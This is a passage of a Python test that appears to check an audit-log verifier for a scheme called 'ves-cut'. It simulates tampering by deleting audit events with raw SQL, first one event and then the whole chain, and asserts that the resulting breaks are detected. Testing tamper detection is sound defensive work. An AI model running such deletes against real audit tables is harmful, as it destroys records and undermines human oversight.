    for run_id in ("run-1", "run-2"):
        await schemes.record_run(app_pool, "ves-cut", run_id, [Rank.SUPERINTENDENT], HR_MANAGER)
    chain = audit.scheme_chain("ves-cut")
    await _tamper(
        own_database, ("DELETE FROM audit_events WHERE case_id = $1 AND seq = 2", (chain,))
    )
    broken = await _break(app_pool, chain)
    assert broken.seq == 2 and "recorded 2 events" in broken.problem
    await _tamper(own_database, ("DELETE FROM audit_events WHERE case_id = $1", (chain,)))
    report = await audit.verify(app_pool)
    assert [(b.case_id, b.seq) for b in report.breaks] == [(chain, 1)]
